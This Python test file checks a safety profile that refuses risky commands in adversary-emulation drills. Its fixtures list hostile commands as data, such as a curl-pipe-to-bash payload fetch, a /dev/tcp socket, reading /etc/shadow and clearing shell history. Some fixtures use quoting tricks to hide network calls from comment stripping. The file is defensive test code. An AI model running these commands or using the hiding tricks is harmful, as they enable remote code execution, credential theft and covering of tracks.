"""The safety profile's rules read commands conservatively and say why they refuse."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from drillbook.domain.drill.plan import SafetyProfile
from drillbook.executors.atomics import AtomicsFolder
from drillbook.executors.safety import assess, refusal, strip_comments
from drillbook.executors.stratus import parse_status
from tests.helpers import shared_data

DEFAULT = SafetyProfile()


@pytest.mark.parametrize(
    ("command", "cleanup", "rule"),
    [
        ("curl -fsSL http://x/payload.sh | bash", "rm -f /tmp/payload.sh", "network"),
        ("exec 3<>/dev/tcp/10.0.0.1/80", None, "network"),
        ("ping -c 4 8.8.8.8", "true", "network"),
        ("nslookup example.org", None, "network"),
        ("sudo cat /etc/shadow", None, "elevation"),
        ("rm ~/.bash_history", None, "deletes"),
        ("history -c", None, "deletes"),
        ("echo '' > ~/.bash_history", None, "deletes"),
        ("dd if=/dev/zero of=/tmp/x bs=1 count=1", None, "deletes"),
        ("chmod 777 /tmp/x", None, "deletes"),
    ],
)
def test_risky_commands_are_refused(command: str, cleanup: str | None, rule: str) -> None:
    reason = refusal(assess(command, cleanup), DEFAULT)
    assert reason is not None
    assert rule in reason


@pytest.mark.parametrize(
    "command",
    [
        "uname -a >> /tmp/out.txt",
        "cat /etc/passwd 2>/dev/null",
        "hostname",
        "echo mapping",
        "# curl http://example.org (a comment)\nid",
    ],
)
def test_harmless_commands_pass(command: str) -> None:
    assert refusal(assess(command, None), DEFAULT) is None


def test_deleting_with_a_cleanup_is_allowed_and_profiles_can_allow_more() -> None:
    assert refusal(assess("cat /etc/passwd > /tmp/x", "rm -f /tmp/x"), DEFAULT) is None
    lenient = SafetyProfile(
        network_allowed=True, elevation_allowed=True, destructive_actions_allowed=True
    )
    assert refusal(assess("sudo rm /tmp/x; curl http://x", None), lenient) is None


def test_explicit_network_flag_adds_but_cannot_hide() -> None:
    assert "network: true" in (refusal(assess("echo hi", None, network=True), DEFAULT) or "")
    assert refusal(assess("wget http://x", None, network=False), DEFAULT) is not None


def test_stratus_impact_is_destructive_by_design() -> None:
    found = assess("", "stratus cleanup", destructive_by_design="impact technique")
    assert "destructive by design" in (refusal(found, DEFAULT) or "")


@pytest.mark.parametrize(
    ("technique", "test", "rule"),
    [
        ("T1059.004", 1, "network"),
        ("T1059.004", 2, "network"),
        ("T1070.003", 1, "deletes"),
        ("T1070.003", 6, "deletes"),
        ("T1222.002", 1, "deletes"),
        ("T1222.002", 5, "deletes"),
    ],
)
def test_shared_dangerous_atomics_are_refused(technique: str, test: int, rule: str) -> None:
    folder = AtomicsFolder(shared_data() / "atomic-red-team" / "atomics")
    ref = folder.find(technique, test)
    spec = ref.test.executor
    root = Path(folder.root)
    found = assess(
        ref.render(spec.command, {}, root) or "",
        ref.render(spec.cleanup_command, {}, root),
        elevation_required=spec.elevation_required,
    )
    assert rule in (refusal(found, DEFAULT) or "")


@given(st.text(max_size=200), st.one_of(st.none(), st.text(max_size=50)), st.booleans())
def test_assessment_never_crashes_and_flags_are_honoured(
    command: str, cleanup: str | None, elevated: bool
) -> None:
    found = assess(command, cleanup, elevation_required=elevated)
    reason = refusal(found, DEFAULT)
    if elevated:
        assert reason is not None
        assert "elevation" in reason
    lenient = SafetyProfile(
        network_allowed=True, elevation_allowed=True, destructive_actions_allowed=True
    )
    assert refusal(found, lenient) is None


@given(st.text(max_size=300))
def test_stratus_status_parser_never_crashes(text: str) -> None:
    for state in parse_status(text).values():
        assert state in {"COLD", "WARM", "DETONATED"}


@pytest.mark.parametrize(
    "command",
    [
        'echo " # "; curl http://example.org',
        "echo 'a # b' && wget x",
        'printf "first\n# not a comment, still a string\n"; ping -c1 x',
    ],
)
def test_a_hash_inside_quotes_cannot_hide_a_command(command: str) -> None:
    assert "sends network traffic" in (refusal(assess(command, None), DEFAULT) or "")


def test_shell_comments_are_read_as_the_shell_reads_them() -> None:
    assert strip_comments("id  # curl x\n  # wget y\nuname") == "id  \n  \nuname"
    assert strip_comments("echo $# ${#x} a#b \\# c") == "echo $# ${#x} a#b \\# c"


@given(st.text(alphabet=" \t\n#'\"\\;&|()abcurl$", max_size=60))
def test_stripping_comments_never_fails_and_only_drops_comments(text: str) -> None:
    stripped = strip_comments(text)
    if "#" not in text:
        assert stripped == text
    assert len(stripped) <= len(text)
